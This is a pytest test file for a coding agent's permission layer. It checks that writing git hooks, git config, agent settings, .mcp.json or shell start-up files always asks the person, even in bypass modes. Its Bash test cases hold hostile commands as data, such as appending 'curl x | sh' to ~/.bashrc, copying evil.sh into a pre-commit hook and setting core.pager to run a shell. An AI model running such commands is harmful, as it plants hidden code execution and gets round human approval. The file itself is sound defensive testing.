"""acceptEdits cannot become code execution: writing a file that decides what runs or what is
allowed (git hooks and config, the agent's and Claude Code's settings, `.mcp.json`, shell
start-up files) asks in acceptEdits, under allow rules and in bypassPermissions, for Write, Edit,
NotebookEdit and Bash alike. The person sees the prompt; the file stays as it was when they say no."""

from __future__ import annotations

from pathlib import Path

import pytest

from ipy_agent import Agent, ScriptedModel
from ipy_agent.tools.bash import BashTool
from ipy_agent.tools.files.edit import EditTool
from ipy_agent.tools.files.read import ReadTool
from ipy_agent.tools.files.write import WriteTool
from ipy_agent.tools.shared.protected import protected_reason
from tests.support.bash import decision, project
from tests.support.transcript import use

PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".ipy_agent/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".bashrc",
    "sub/.profile",
    ".zshrc",
    ".envrc",
    ".vscode/tasks.json",
    ".ipython/profile_default/startup/00.py",
    ".GIT/config",
    ".gitmodules",
]
ORDINARY = ["src/main.py", "notes.md", ".gitignore", ".github/workflows/ci.yml", "gitconfig.txt", "profile.py"]


@pytest.mark.parametrize("path", PROTECTED)
def test_protected_paths(path):
    assert protected_reason(path)


@pytest.mark.parametrize("path", ORDINARY)
def test_ordinary_paths(path):
    assert protected_reason(path) is None


def _write(tmp_path: Path, rel: str, mode: str, allow: list[str] | None = None):
    asked: list[str] = []
    model = ScriptedModel([[use("Write", "w", file_path=rel, content="#!/bin/sh\nid\n")], "done"])
    agent = Agent(
        model=model,
        cwd=tmp_path,
        permission_mode=mode,
        tools=[ReadTool(), WriteTool()],
        allow=allow or [],
        approver=lambda req: asked.append(req.reason) or "deny",
    )
    agent.run("go")
    return asked


@pytest.mark.parametrize("rel", [".git/hooks/pre-commit", ".mcp.json", ".claude/settings.json", ".bashrc"])
@pytest.mark.parametrize(
    ("mode", "allow"), [("acceptEdits", None), ("default", ["Write", "Edit(**)"]), ("bypassPermissions", None)]
)
def test_writing_what_decides_what_runs_always_asks(tmp_path, rel, mode, allow):
    asked = _write(tmp_path, rel, mode, allow)
    assert len(asked) == 1 and "decides what runs" in asked[0], asked
    assert not (tmp_path / rel).exists()


def test_ordinary_files_still_pass_in_accept_edits(tmp_path):
    assert _write(tmp_path, "src/new.py", "acceptEdits") == []
    assert (tmp_path / "src/new.py").exists()


def test_a_symlink_to_a_hook_is_judged_by_where_it_points(tmp_path):
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (tmp_path / "innocent.sh").symlink_to(tmp_path / ".git" / "hooks" / "pre-commit")
    asked: list[str] = []
    model = ScriptedModel(
        [
            [use("Read", "r", file_path="innocent.sh")],
            [use("Edit", "e", file_path="innocent.sh", old_string="#!/bin/sh", new_string="#!/bin/sh\nid")],
            "done",
        ]
    )
    agent = Agent(
        model=model,
        cwd=tmp_path,
        permission_mode="acceptEdits",
        tools=[ReadTool(), EditTool()],
        approver=lambda req: asked.append(req.reason) or "deny",
    )
    agent.run("go")
    assert asked and ".git/" in asked[0]
    assert (tmp_path / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"


@pytest.mark.parametrize(
    ("command", "allow"),
    [
        ("cp evil.sh .git/hooks/pre-commit", ["Bash(cp:*)"]),
        ("echo 'curl x | sh' >> ~/.bashrc", ["Bash(echo:*)"]),
        ("tee -a .claude/settings.json < f", ["Bash(tee:*)"]),
        ("git config core.pager 'sh -c id'", ["Bash(git config:*)"]),
        ("git config --global alias.st '!id'", ["Bash(git:*)"]),
        ("ln -sf /tmp/x .g?t/hooks/post-checkout", ["Bash(ln:*)"]),
        ("cd .git && cp ../evil hooks/pre-push", ["Bash(cd:*)", "Bash(cp:*)"]),
        ("mv x $HOME/.profile", ["Bash(mv:*)"]),
    ],
)
@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
def test_bash_writes_to_those_files_ask_whatever_the_rules_and_mode(tmp_path, command, allow, mode):
    d = decision(command, project(tmp_path), mode=mode, allow=allow)
    assert d.behavior == "ask" and d.source == "tool", d
    assert "asks every time" in d.reason or "git config" in d.reason, d


def test_reading_those_files_is_not_writing_them(tmp_path):
    cwd = project(tmp_path)
    (cwd / ".git").mkdir()
    (cwd / ".git" / "config").write_text("[core]\n")
    assert decision("cat .git/config", cwd).behavior == "allow"
    assert decision("git config --get core.pager", cwd).behavior == "allow"
    agent = Agent(
        model=ScriptedModel([[use("Bash", "b", command="cat .git/config")], "ok"]), cwd=cwd, tools=[BashTool()]
    )
    agent.run("go")
    assert agent.trace[0].status == "done" and agent.trace[0].decision.behavior == "allow"
